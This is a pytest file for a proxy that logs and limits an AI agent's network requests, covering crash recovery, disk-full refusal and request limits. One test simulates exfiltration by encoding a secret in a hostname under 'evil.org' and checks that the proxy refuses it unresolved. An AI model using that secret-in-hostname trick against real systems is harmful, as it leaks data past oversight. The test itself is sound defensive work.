"""Requests are recorded before they are sent, and nothing is sent without a record."""

import os

import pytest

from agent2rl.core.network import (
    NetworkLine,
    NetworkRequest,
    join_network_lines,
)
from agent2rl.network_proxy.request_log import NetworkLimits
from tests.network_proxy.small_internet import (
    make_client_hello,
    open_internet,
    read_all,
    wait_for_requests,
    wait_for_unrecorded,
)


def test_a_request_is_in_the_record_before_anything_of_it_is_sent() -> None:
    with open_internet("allow:a.org") as internet:
        client = internet.open_tunnel("a.org:443")
        (line,) = internet.lines
        assert isinstance(line.root, NetworkRequest)
        assert (line.root.method, line.root.host, line.root.outcome) == ("CONNECT", "a.org", "open")
        assert internet.site.received == []
        client.close()
        wait_for_requests(internet, 1)
    assert [each.outcome for each in join_network_lines(internet.lines).requests] == ["refused"]


def test_bytes_of_an_open_request_are_recorded_while_they_pass_and_count_after_a_crash() -> None:
    limits = NetworkLimits(unrecorded_received_bytes=50_000, received_bytes=300_000)
    with open_internet("allow:a.org", limits=limits) as internet:
        internet.get("http://a.org/large")
        wait_for_requests(internet, 1)
    killed = join_network_lines(internet.lines[:-1])  # its last line was never written
    (request,) = killed.requests
    assert request.outcome == "open"
    assert 150_000 <= request.received_bytes <= 200_500
    with open_internet("allow:a.org", limits=limits, earlier=killed) as internet:
        (ended,) = internet.requests
        assert (ended.id, ended.outcome, ended.received_bytes) == (1, "cut", request.received_bytes)
        internet.get("http://a.org/large")
        assert wait_for_requests(internet, 2)[1].id == 2
        assert b"download limit" in internet.get("http://a.org/")


def test_the_number_of_unrecorded_requests_is_in_the_record_and_goes_on_after_a_crash() -> None:
    limits = NetworkLimits(requests=1)
    with open_internet("allow:a.org", limits=limits) as internet:
        for _ in range(4):
            internet.get("http://a.org/")
        killed = wait_for_unrecorded(internet, 3)
    assert killed.unrecorded == 3
    with open_internet("allow:a.org", limits=limits, earlier=killed) as internet:
        internet.get("http://a.org/")
    assert join_network_lines(internet.lines).unrecorded == 4


def test_after_a_line_that_cannot_be_written_nothing_is_let_out(caplog: pytest.LogCaptureFixture) -> None:
    lines: list[NetworkLine] = []

    def write_on_a_disk_that_fills_up(line: NetworkLine) -> None:
        lines.append(line)
        with open("/dev/full" if len(lines) > 2 else os.devnull, "wb", buffering=0) as file:
            file.write(b"x")

    with open_internet("allow:a.org,b.org", record=write_on_a_disk_that_fills_up) as internet:
        with internet.open_tunnel("a.org:443") as tunnel:
            tunnel.sendall(make_client_hello("a.org"))
            assert tunnel.recv(100) == b"FROM THE SITE"
            assert internet.get("http://b.org/1").startswith(b"HTTP/1.1 200 ")
            for _ in range(2):
                answer = internet.get("http://b.org/2")
                assert answer.startswith(b"HTTP/1.1 503 ")
                assert b"record of requests cannot be written" in answer
            tunnel.sendall(b"more")
            assert read_all(tunnel)  # an alert, and the end
        assert internet.log is not None
        assert internet.log.fault == (
            "A line of network.jsonl could not be written (No space left on device)."
        )
    assert len(internet.site.received) == 2
    assert len(lines) == 3
    assert [each.levelname for each in caplog.records] == ["WARNING"]


def test_requests_before_a_crash_count_towards_the_limits() -> None:
    with open_internet("allow:a.org") as internet:
        internet.get("http://a.org/")
        wait_for_requests(internet, 1)
        earlier = join_network_lines(internet.lines)
    with open_internet("allow:a.org", limits=NetworkLimits(requests=2), earlier=earlier) as internet:
        assert internet.get("http://a.org/").startswith(b"HTTP/1.1 200 ")
        assert internet.get("http://a.org/").startswith(b"HTTP/1.1 429 ")


def test_long_and_strange_texts_of_the_agent_are_cleaned_in_the_record() -> None:
    with open_internet("allow:a.org") as internet:
        internet.get(f"http://a.org/{'x' * 10_000}")
        (request,) = wait_for_requests(internet, 1)
    assert request.path is not None
    assert len(request.path) == 2000


def test_a_model_hub_is_marked_in_the_record_where_it_is_named() -> None:
    with open_internet("open:huggingface.co") as internet:
        assert internet.get("http://huggingface.co/x").startswith(b"HTTP/1.1 200 ")
        assert internet.get("http://cdn-lfs.hf.co/x").startswith(b"HTTP/1.1 403 ")
        first, second = wait_for_requests(internet, 2)
    assert first.model_hub
    assert second.model_hub


def test_what_names_could_carry_out_is_in_the_record_and_a_refused_name_is_not_looked_up() -> None:
    secret = "the-answer-is-42"
    with open_internet("packages") as internet:
        internet.get(f"http://pypi.org/simple/{secret}/")
        internet.get(f"http://{secret}.evil.org/")
        first, second = wait_for_requests(internet, 2)
    assert first.path == f"/simple/{secret}/"
    assert (second.host, second.outcome) == (f"{secret}.evil.org", "refused")
    assert internet.resolved == ["pypi.org"]
